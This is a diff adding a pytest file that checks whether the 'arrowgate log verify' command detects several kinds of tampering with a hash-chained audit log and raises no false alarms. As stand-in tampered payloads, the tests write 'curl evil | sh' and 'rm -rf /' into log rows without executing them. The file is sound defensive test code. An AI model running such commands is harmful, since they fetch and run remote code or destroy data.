@@ -1,0 +1,105 @@
+"""Tamper evidence: seven kinds of tampering found by `arrowgate log verify`, no false alarms."""
+
+from __future__ import annotations
+
+import json
+import os
+import sqlite3
+from pathlib import Path
+
+import pytest
+
+from engine.cli import main
+from engine.log import FIELDS, row_hash
+
+
+@pytest.fixture
+async def logged(world, db_path: Path) -> Path:
+    """A log of 8 rows on disk, the engine closed."""
+    for i in range(8):
+        await world.call("c1", "terminals.run", "t1", {"command": f"cmd {i}"})
+    world.close()
+    return db_path
+
+
+def _verify(db: Path, capsys) -> tuple[int, str]:
+    code = main(["log", "verify", "--db", str(db)])
+    return code, capsys.readouterr().out
+
+
+def _rehash_all(conn: sqlite3.Connection) -> None:
+    """What a careful forger does: recompute every link and hash."""
+    prev = "0" * 64
+    rows = conn.execute("select * from log order by seq").fetchall()
+    cols = [d[0] for d in conn.execute("select * from log").description]
+    for raw in rows:
+        row = dict(zip(cols, raw))
+        row["chain"] = json.loads(row["chain"]) if row["chain"] else None
+        new = row_hash(prev, {f: row[f] for f in FIELDS})
+        conn.execute("update log set prev = ?, hash = ? where seq = ?", [prev, new, row["seq"]])
+        prev = new
+
+
+def test_untouched_log_gives_no_false_alarm(logged: Path, capsys) -> None:
+    """An untouched log verifies, exit 0."""
+    code, out = _verify(logged, capsys)
+    assert code == 0 and "ok: 8 rows" in out
+
+
+@pytest.mark.parametrize("kind, tamper, first_bad", [
+    ("altered payload", "update log set payload = 'curl evil | sh' where seq = 3", 3),
+    ("altered outcome", "update log set outcome = 'denied' where seq = 4", 4),
+    ("deleted middle row", "delete from log where seq = 5", 6),
+    ("deleted tail rows", "delete from log where seq >= 7", 7),
+    ("inserted row", "insert into log (seq, t, call, outcome, prev, hash) values "
+                     "(9, 0, 'terminals.run', 'ok', 'x', 'y')", 9),
+    ("reordered rows", "update log set seq = case seq when 2 then 1000 else seq end; "
+                       "update log set seq = 2 where seq = 3; "
+                       "update log set seq = 3 where seq = 1000", 2),
+])
+def test_tampering_is_found(logged: Path, capsys, kind: str, tamper: str, first_bad: int) -> None:
+    """Each kind of tampering is found, naming the first bad row; exit 1."""
+    conn = sqlite3.connect(logged)
+    conn.executescript(tamper)
+    conn.commit()
+    conn.close()
+    code, out = _verify(logged, capsys)
+    assert code == 1, kind
+    assert f"first bad row {first_bad}" in out, out
+
+
+@pytest.mark.parametrize("kind", ["rewritten chain", "forged appended row", "cut tail rehashed"])
+def test_consistent_rewrites_are_found_by_the_anchor(logged: Path, capsys, kind: str) -> None:
+    """A chain rewritten consistently (valid hashes throughout) disagrees with the anchor."""
+    conn = sqlite3.connect(logged)
+    if kind == "rewritten chain":
+        conn.execute("update log set payload = 'rm -rf /' where seq = 2")
+    elif kind == "forged appended row":
+        conn.execute("insert into log (seq, t, call, outcome, prev, hash) values "
+                     "(9, 0, 'terminals.run', 'ok', '', '')")
+    else:
+        conn.execute("delete from log where seq = 8")
+    _rehash_all(conn)
+    conn.commit()
+    conn.close()
+    code, out = _verify(logged, capsys)
+    assert code == 1 and ("anchor" in out or "missing" in out), out
+
+
+def test_deleting_the_anchor_is_a_finding(logged: Path, capsys) -> None:
+    """The database remembers it has an anchor."""
+    os.remove(str(logged) + ".anchor")
+    code, out = _verify(logged, capsys)
+    assert code == 1 and "anchor file is missing" in out
+
+
+def test_export_jsonl_schema(logged: Path, capsys) -> None:
+    """One decision per line, in the documented schema."""
+    assert main(["log", "export", "--jsonl", "--db", str(logged)]) == 0
+    lines = [json.loads(x) for x in capsys.readouterr().out.splitlines()]
+    assert len(lines) == 8
+    first = lines[0]
+    assert first["schema"] == "arrowgate.decision/1" and first["seq"] == 1
+    assert first["input"]["payload"] == "cmd 0" and first["result"]["outcome"] == "ok"
+    assert set(first) == {"schema", "decision_id", "seq", "timestamp", "workspace", "input",
+                          "result", "chain"}
